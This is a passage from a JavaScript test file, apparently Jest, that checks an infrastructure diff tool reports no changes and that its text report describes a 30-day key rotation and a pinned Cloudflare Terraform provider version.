    expect({ code: diff.code, stderr: diff.stderr }).toEqual({ code: 0, stderr: '' });
    const parsed = JSON.parse(diff.stdout);
    expect({ changed: parsed.changed, added: parsed.added, removed: parsed.removed, stackChanges: parsed.stackChanges, widened: parsed.widened }).toEqual({
      changed: [],
      added: [],
      removed: [],
      stackChanges: [],
      widened: false,
    });
    expect(parsed.unchanged.length).toBeGreaterThan(0);
    expect(report.code).toBe(0);
    expect(report.stdout).toContain("rotates every 30 days, 7 days' grace");
    expect(report.stdout).not.toContain('rotation this tool cannot read');
    expect(report.stdout).toContain('terraform block: cloudflare = cloudflare/cloudflare 5.14.0');
  }, 120_000);
});
